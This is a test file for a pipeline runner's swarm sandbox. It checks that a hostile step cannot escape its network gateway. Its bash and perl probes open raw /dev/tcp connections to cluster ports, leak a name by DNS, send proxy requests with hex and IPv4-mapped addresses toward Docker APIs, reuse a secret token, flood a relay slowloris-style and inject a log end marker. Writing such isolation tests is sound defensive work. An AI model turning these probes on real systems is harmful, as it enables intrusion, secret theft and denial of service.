/**
 * A hostile step behind its gateway on a swarm worker (egress:, --engine swarm,
 * the lab of scripts/swarm-lab.sh): it tries to reach anything but its gateway,
 * to leak a name by DNS, to get past the proxy to private addresses, to reuse
 * its transfer token, to hold the runner's transfer server with thousands of
 * idle connections (a slowloris through its relay), and to cut its own log
 * with the transfer helper's end marker. Each probe is a bash and perl script
 * (runner/base has no curl or nc) that writes what it saw into the workspace,
 * which comes back and is committed. The lab is brought up for this file and
 * taken down after it, as swarm.test.ts does.
 */
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { promisify } from 'node:util';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { execPipeline, git, projectsForThisFile, writePipeline, type Fixture } from '../fixtures/project.js';

const LAB = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../scripts/swarm-lab.sh');
const run = promisify(execFile);
const fixture = projectsForThisFile();
const SWARM = ['--engine', 'swarm'];

before(async () => {
  await run('bash', [LAB, 'up'], { env: { ...process.env, LAB_IMAGES: 'runner/base:latest' }, maxBuffer: 1 << 24 });
}, { timeout: 600_000 });
after(async () => {
  await run('bash', [LAB, 'down'], { maxBuffer: 1 << 24 });
}, { timeout: 300_000 });

/** A project holding `probe.sh`, committed as its owner (the step's user) would find it. */
async function withProbe(script: string): Promise<Fixture> {
  const f = await fixture();
  await writeFile(path.join(f.project, 'probe.sh'), script);
  git(f.project, 'add', '-A');
  git(f.project, '-c', 'user.name=t', '-c', 'user.email=t@localhost', 'commit', '-q', '-m', 'probe');
  execFileSync('chown', ['-R', '1000:1000', f.project, f.remote]);
  return f;
}

const pipeline = (extra = '') => `version: 1
name: attack
project: { path: project, push: never }
steps:
  - id: probe
    image: runner/base:latest
    placement: ["node.role == worker"]
    timeout: 3m
    egress: [example.org]
${extra}    run: bash probe.sh
`;

const GW = `GW=$(getent hosts runner-gateway | awk '{print $1}')`;
const TCP = `tcp() { if timeout 3 bash -c "exec 9<>/dev/tcp/$1/$2" 2>/dev/null; then echo "open $1:$2"; else echo "closed $1:$2"; fi; }`;
const DNS = `dnsq() { perl -MIO::Socket::INET -e '
 my ($srv,$name)=@ARGV; my $s=IO::Socket::INET->new(PeerAddr=>$srv,PeerPort=>53,Proto=>"udp") or do { print "dns $srv $name: unreachable\\n"; exit };
 my $q=pack("nnnnnn",0x1234,0x0100,1,0,0,0).join("",map{chr(length $_).$_} split /\\./,$name)."\\0".pack("nn",1,1); $s->send($q);
 my $rin=""; vec($rin,fileno($s),1)=1; my $r="";
 if (select($rin,undef,undef,3) && $s->recv($r,512) && length($r) >= 12) { my (undef,$fl,undef,$an)=unpack("nnnn",$r); printf "dns %s %s: rcode=%d answers=%d\\n",$srv,$name,$fl&15,$an } else { print "dns $srv $name: no answer\\n" }' "$1" "$2"; }`;
const PROXY = `proxy() { perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new(PeerAddr=>$ARGV[0],PeerPort=>3128,Timeout=>5) or die; my $r=$ARGV[1]; $r=~s/\\|/\\r\\n/g; print $s $r; my $l=<$s> // "none"; $l=~s/\\r?\\n//; print "proxy $ARGV[2]: $l\\n"' "$GW" "$1" "$2"; }`;

test('a step on a worker reaches its gateway and nothing else: no host, no other run\'s gateway, no name, no private address through the proxy', { timeout: 300_000 }, async () => {
  // another run's gateway, up while the probe runs: its address on its own overlay and on the manager's bridge
  const other = await fixture({ owner: 1000 });
  const sleeping = execPipeline(other, await writePipeline(other, pipeline().replace('run: bash probe.sh', 'run: sleep 40')), SWARM);
  let otherGw: string[] = [];
  for (let i = 0; i < 60 && otherGw.length === 0; i++) {
    await new Promise((r) => setTimeout(r, 1000));
    const ids = execFileSync('docker', ['ps', '-q', '--filter', 'label=dev.runner.run-id', '--filter', 'name=-gw'], { encoding: 'utf8' }).trim().split('\n').filter(Boolean);
    otherGw = ids.flatMap((id) => execFileSync('docker', ['inspect', '-f', '{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}', id], { encoding: 'utf8' }).trim().split(' '));
  }
  assert.ok(otherGw.length >= 2, 'the other run\'s gateway is up');
  const f = await withProbe(`${GW}; ${TCP}; ${DNS}; ${PROXY}
OV1=$(echo $GW | awk -F. '{print $1"."$2"."$3".1"}')
{
for t in 10.213.7.1:22 10.213.7.1:2377 172.17.0.1:22 10.213.7.11:7946 10.213.7.12:7946 1.1.1.1:443 $OV1:53 ${otherGw.map((a) => `${a}:3128 ${a}:3129`).join(' ')}; do tcp \${t%:*} \${t##*:}; done
for r in $GW 127.0.0.11 10.213.7.1 8.8.8.8 $OV1; do dnsq $r leak-by-dns.example.org; done
proxy 'CONNECT 10.213.7.1:2377 HTTP/1.1|Host: 10.213.7.1||' manager
proxy 'GET http://172.17.0.1:2375/version HTTP/1.1|Host: x||' docker0
proxy 'GET http://[::ffff:10.213.7.1]:2375/ HTTP/1.1|Host: x||' mapped
proxy 'GET http://0x0ad50701:2375/ HTTP/1.1|Host: x||' hex
proxy 'CONNECT localhost:3129 HTTP/1.1|Host: localhost||' relay
} > seen.txt 2>&1
`);
  const r = await execPipeline(f, await writePipeline(f, pipeline()), SWARM);
  await sleeping;
  assert.equal(r.code, 0, r.stderr);
  const seen = git(f.project, 'show', `${r.json.branch}:seen.txt`);
  const open = seen.split('\n').filter((l) => l.startsWith('open '));
  assert.deepEqual(open, [], `reached:\n${seen}`);
  for (const l of seen.split('\n').filter((l) => l.startsWith('dns '))) assert.match(l, /rcode=3 answers=0|no answer|unreachable/, l);
  for (const l of seen.split('\n').filter((l) => l.startsWith('proxy '))) assert.match(l, / 403 /, l);
  assert.equal(seen.split('\n').filter((l) => l.startsWith('proxy ')).length, 5, seen);
});

test('a step that holds thousands of connections to its relay holds a few of the runner\'s sockets; its own token fetches nothing twice; its end marker cuts no output', { timeout: 300_000 }, async () => {
  const f = await withProbe(`${GW}
TOK=$(tr -d '\\n' < /run/secrets/runner-transfer)
perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new(PeerAddr=>$ARGV[0],PeerPort=>3129,Timeout=>5) or die; print $s "GET $ARGV[1] w\\n"; shutdown($s,1); my $n=0; my $b; while (my $k=sysread($s,$b,65536)) { $n+=$k } print "again: $n bytes\\n"' "$GW" "$TOK" > again.txt 2>&1
perl -MIO::Socket::INET -e 'my @s; for (1..3000) { my $s=IO::Socket::INET->new(PeerAddr=>$ARGV[0],PeerPort=>3129,Timeout=>3) or last; print $s "GET "; push @s,$s } print scalar(@s)." opened\\n"; sleep 40' "$GW" > slow.txt 2>&1
printf '\\x1erunner-transfer: end\\x1e\\n'; printf '\\x1erunner-transfer: end\\x1e\\n' >&2
echo after-the-marker-out; echo after-the-marker-err >&2
`);
  let peak = 0;
  let timer: NodeJS.Timeout | undefined;
  const r = await execPipeline(f, await writePipeline(f, pipeline()), SWARM, {
    onSpawn: (c) => {
      timer = setInterval(() => {
        try {
          peak = Math.max(peak, readdirSync(`/proc/${c.pid}/fd`).length);
        } catch {
          /* it ended */
        }
      }, 500);
    },
  });
  clearInterval(timer);
  assert.equal(r.code, 0, r.stderr);
  assert.equal(git(f.project, 'show', `${r.json.branch}:again.txt`), 'again: 0 bytes', 'a token fetches its workspace once');
  // the relay lets 8 through at once; the server closes those that send no line within 15 s
  assert.ok(peak < 200, `the runner held ${peak} files while the step held its connections`);
  const log = readFileSync(path.join(f.home, 'runs', r.json.runId, 'steps', 'probe.log'), 'utf8');
  assert.match(log, /more than 8 connections at once/);
  assert.match(log, /after-the-marker-out/);
  assert.match(log, /after-the-marker-err/);
});
